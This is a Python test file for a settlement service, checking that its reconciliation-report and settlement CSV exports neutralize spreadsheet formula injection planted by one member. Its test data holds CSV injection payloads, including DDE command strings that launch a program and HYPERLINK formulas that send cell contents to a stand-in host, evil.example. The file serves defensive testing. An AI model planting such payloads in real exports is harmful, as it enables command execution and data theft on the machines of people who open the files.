"""CSV downloads of the service neutralize formula cells (issue 15): one member cannot plant a
formula in a report another opens. Over HTTP, with the issue's payloads planted in a statement
(references and provider ids), in a resolution note and in a settlement's payment reference.
Fails on the main before the shared helper: its reconciliation report wrote them raw."""

from __future__ import annotations

import csv
import io

from settlement.core.csv_safe import FORMULA_TRIGGERS

from .conftest import CWorld

PAYLOADS = ("=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _unguarded(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]


def test_the_reconciliation_report_csv_guards_planted_formulas(sworld: CWorld) -> None:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["provider_txn_id", "reference", "kind", "amount_minor", "currency", "status", "booked_at"])
    for n, payload in enumerate(PAYLOADS):
        writer.writerow([f"txn-{n}", payload, "payment", 100 + n, "USD", "succeeded", "2026-01-01T00:00:00"])
        writer.writerow([payload, f"REF-{n}", "payment", 200 + n, "USD", "succeeded", "2026-01-01T00:00:00"])
    h = sworld.w.h("retailer")
    up = sworld.w.http.post("/v1/reconciliation/statements", params={"kind": "normalized"},
                            content=buf.getvalue().encode(), headers=h)
    assert up.status_code == 201 and up.json()["line_count"] == 2 * len(PAYLOADS), up.text
    run = sworld.w.http.post("/v1/reconciliation/runs", json={"statement_id": up.json()["id"]}, headers=h).json()
    items = sworld.w.http.get("/v1/reconciliation/exceptions", params={"run_id": run["id"]}, headers=h).json()["data"]
    note = '=HYPERLINK("http://evil.example","details")'
    assert sworld.w.http.post(f"/v1/reconciliation/exceptions/{items[0]['exception_id']}/resolve",
                              json={"action": "accepted", "note": note}, headers=h).status_code == 200
    got = sworld.w.http.get(f"/v1/reconciliation/runs/{run['id']}/report", params={"format": "csv"}, headers=h)
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    rows = _rows(got.text)
    assert len(rows) == 1 + 2 * len(PAYLOADS)
    assert _unguarded(rows) == []
    cells = {cell for row in rows for cell in row}
    assert all("'" + p in cells for p in PAYLOADS) and "'" + note in cells


def test_the_settlement_export_guards_planted_formulas(sworld: CWorld) -> None:
    payloads = PAYLOADS[:-1]  # a payment reference is printable text: no tab
    for n, payload in enumerate(payloads):
        sworld.w.create(payment_reference=f"{payload}#{n}")
    text = sworld.w.http.get("/v1/settlements/export.csv", headers=sworld.w.h("bank")).text
    rows = _rows(text)
    assert len(rows) == 1 + len(payloads) and _unguarded(rows) == []
    assert {f"'{p}#{n}" for n, p in enumerate(payloads)} <= {cell for row in rows for cell in row}
